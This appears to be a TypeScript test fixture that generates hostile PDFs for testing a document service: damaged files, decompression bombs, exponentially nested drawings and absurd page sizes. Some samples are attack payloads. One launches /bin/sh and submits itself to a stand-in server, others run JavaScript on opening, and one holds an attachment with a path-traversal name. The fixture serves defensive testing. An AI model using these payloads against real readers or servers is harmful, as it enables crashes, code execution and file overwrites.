// PDFs that crash readers, never finish, exhaust memory, or try to run code.
import { deflateSync } from 'node:zlib';
import { pdfFile, pdfPageFile, pdfStream } from './file-parts.ts';
import type { HostileFile } from './hostile-files.ts';
import { deflatedZeros } from './hostile-zeros.ts';

type Row = readonly [name: string, reason: HostileFile['reason'], bytes: () => Uint8Array];

const MEGABYTE = 1024 * 1024;
const A4 = pdfPageFile({});

/** One page that draws one image; `dictionary` is the image's dictionary. */
function imagePdf(dictionary: string, data: Uint8Array): Buffer {
  return pdfPageFile({
    content: 'q 595 0 0 842 0 0 cm /I Do Q',
    resources: '/XObject << /I 5 0 R >>',
    further: [pdfStream(`/Type /XObject /Subtype /Image ${dictionary}`, data)],
  });
}

function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, (_, at) => `${at + 3} 0 R`).join(' ');
  return pdfFile([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} /MediaBox [0 0 595 842] >>`,
    ...Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R >>'),
  ]);
}

function withoutEnd(share: number): Buffer {
  const long = pdfPageFile({ content: '10 10 20 20 re f\n'.repeat(2_000) });
  return long.subarray(0, Math.floor(long.length * share));
}

const hex = (byte: string): string => byte.repeat(32);
const encrypted = (filter: string): Buffer =>
  pdfPageFile({
    further: [`<< /Filter /${filter} /V 1 /R 2 /P -4 /O <${hex('3a')}> /U <${hex('5c')}> >>`],
    trailer: `/Encrypt 5 0 R /ID [<${hex('01')}> <${hex('01')}>]`,
  });

/** 100 MB of zeros in less than a kilobyte: a Flate stream in a Flate stream. */
const nestedFlate = (): Buffer => deflateSync(deflatedZeros(100 * MEGABYTE), { level: 9 });

const ROWS: readonly Row[] = [
  ['PDF with only a header', 'damaged', () => Buffer.from('%PDF-1.7\n')],
  ['PDF truncated in the middle', 'damaged', () => withoutEnd(0.5)],
  ['PDF truncated just before its end', 'damaged', () => withoutEnd(0.999)],
  [
    'PDF of noise between header and end',
    'damaged',
    () => Buffer.from('%PDF-1.7\n\x01\x02\x03 obj <<\n%%EOF\n'),
  ],
  ['PDF with 500 pages', 'too-many-pages', () => manyPages(500)],
  [
    'PDF that claims two billion pages and has one',
    null,
    () =>
      pdfFile([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
      ]),
  ],
  [
    'PDF without pages',
    'no-pages',
    () => pdfFile(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  ],
  [
    'PDF with a circular page tree',
    'damaged',
    () => pdfFile(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 3 >>']),
  ],
  [
    'PDF with a missing page',
    'damaged',
    () => Buffer.from(A4.toString('latin1').replace('[3 0 R]', '[9 0 R]'), 'latin1'),
  ],
  ['PDF with a password', 'password-protected', () => encrypted('Standard')],
  ['PDF with an unknown encryption', 'unknown-encryption', () => encrypted('Unknown')],
  [
    'PDF that is a dynamic XFA form',
    'dynamic-form',
    () =>
      pdfPageFile({
        catalog: '/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true',
        further: [pdfStream('', Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'))],
      }),
  ],
  [
    'PDF with JavaScript that runs on opening',
    null,
    () =>
      pdfPageFile({
        catalog: '/OpenAction << /S /JavaScript /JS (while\\(true\\){app.alert\\(1\\);}) >>',
        page: '/AA << /O << /S /JavaScript /JS (this.exportDataObject\\({}\\)) >> >>',
      }),
  ],
  [
    'PDF that starts a program and submits itself to a server',
    null,
    () =>
      pdfPageFile({
        catalog:
          '/OpenAction << /S /Launch /F (/bin/sh) /Next << /S /SubmitForm /F (http://192.0.2.1/) >> >>',
      }),
  ],
  [
    'PDF with an attachment whose name is a path',
    null,
    () =>
      pdfPageFile({
        catalog: '/Names << /EmbeddedFiles << /Names [(../../../etc/passwd) 5 0 R] >> >>',
        further: [
          '<< /Type /Filespec /F (../../../etc/passwd) /EF << /F 6 0 R >> >>',
          pdfStream('/Type /EmbeddedFile', Buffer.from('root:x:0:0')),
        ],
      }),
  ],
  [
    'PDF with a page size of a billion points',
    null,
    () => pdfPageFile({ mediaBox: '[0 0 1000000000 1000000000]' }),
  ],
  ['PDF with a page size of zero', null, () => pdfPageFile({ mediaBox: '[0 0 0 0]' })],
  ['PDF with a page size that is not numeric', null, () => pdfPageFile({ mediaBox: '[0 (x) /NaN null]' })],
  ['PDF with an extremely narrow page', 'odd-shape', () => pdfPageFile({ mediaBox: '[0 0 1 14400]' })],
  [
    'PDF with numbers out of range',
    null,
    () => pdfPageFile({ content: '9e999 -9e999 1e308 1e308 re f 99999999999999999999 w' }),
  ],
  [
    'PDF with a colour image of 30000 x 30000 pixels',
    'too-many-pixels',
    () =>
      imagePdf(
        '/Width 30000 /Height 30000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
        deflatedZeros(100 * MEGABYTE),
      ),
  ],
  [
    'PDF with a doubly compressed image of 100 MB',
    null,
    () =>
      imagePdf(
        '/Width 6000 /Height 6000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter [/FlateDecode /FlateDecode]',
        nestedFlate(),
      ),
  ],
  [
    'PDF with doubly compressed instructions of 100 MB',
    null,
    () => pdfPageFile({ content: pdfStream('/Filter [/FlateDecode /FlateDecode]', nestedFlate()) }),
  ],
  [
    'PDF with a drawing that contains itself',
    'too-complex',
    () =>
      pdfPageFile({
        content: '/F Do',
        resources: '/XObject << /F 5 0 R >>',
        further: [
          pdfStream(
            '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /F 5 0 R >> >>',
            Buffer.from('/F Do /F Do'),
          ),
        ],
      }),
  ],
  ['PDF with nested drawings that are drawn two to the power of 40 times', 'too-complex', exponentialForms],
  [
    'PDF that paints its page a hundred thousand times',
    'took-too-long',
    () =>
      pdfPageFile({
        content: `/G gs\n${'0 0 595 842 re f\n'.repeat(100_000)}`,
        resources: '/ExtGState << /G << /ca 0.5 /BM /Luminosity >> >>',
      }),
  ],
  ['PDF with brackets nested a million deep', null, () => pdfPageFile({ content: '['.repeat(1_000_000) })],
  [
    'PDF with a contents array that contains itself',
    null,
    () => {
      const at = A4.indexOf('xref\n');
      return pdfPageFile({ trailer: `/Prev ${at}` });
    },
  ],
  [
    'PDF with a contents array in the wrong place',
    null,
    () => Buffer.from(A4.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'), 'latin1'),
  ],
];

/** Forty drawings, each of which draws the next one twice. */
function exponentialForms(): Buffer {
  const depth = 40;
  const forms = Array.from({ length: depth }, (_, at) => {
    const next = at === depth - 1 ? '' : `/XObject << /F ${at + 6} 0 R >>`;
    const content = at === depth - 1 ? '0 0 595 842 re f' : '/F Do /F Do';
    return pdfStream(
      `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${next} >>`,
      Buffer.from(content),
    );
  });
  return pdfPageFile({ content: '/F Do', resources: '/XObject << /F 5 0 R >>', further: forms });
}

export const HOSTILE_PDFS: readonly HostileFile[] = ROWS.map(([name, reason, bytes]) => ({
  name,
  reason,
  bytes,
  contentType: 'application/pdf',
}));
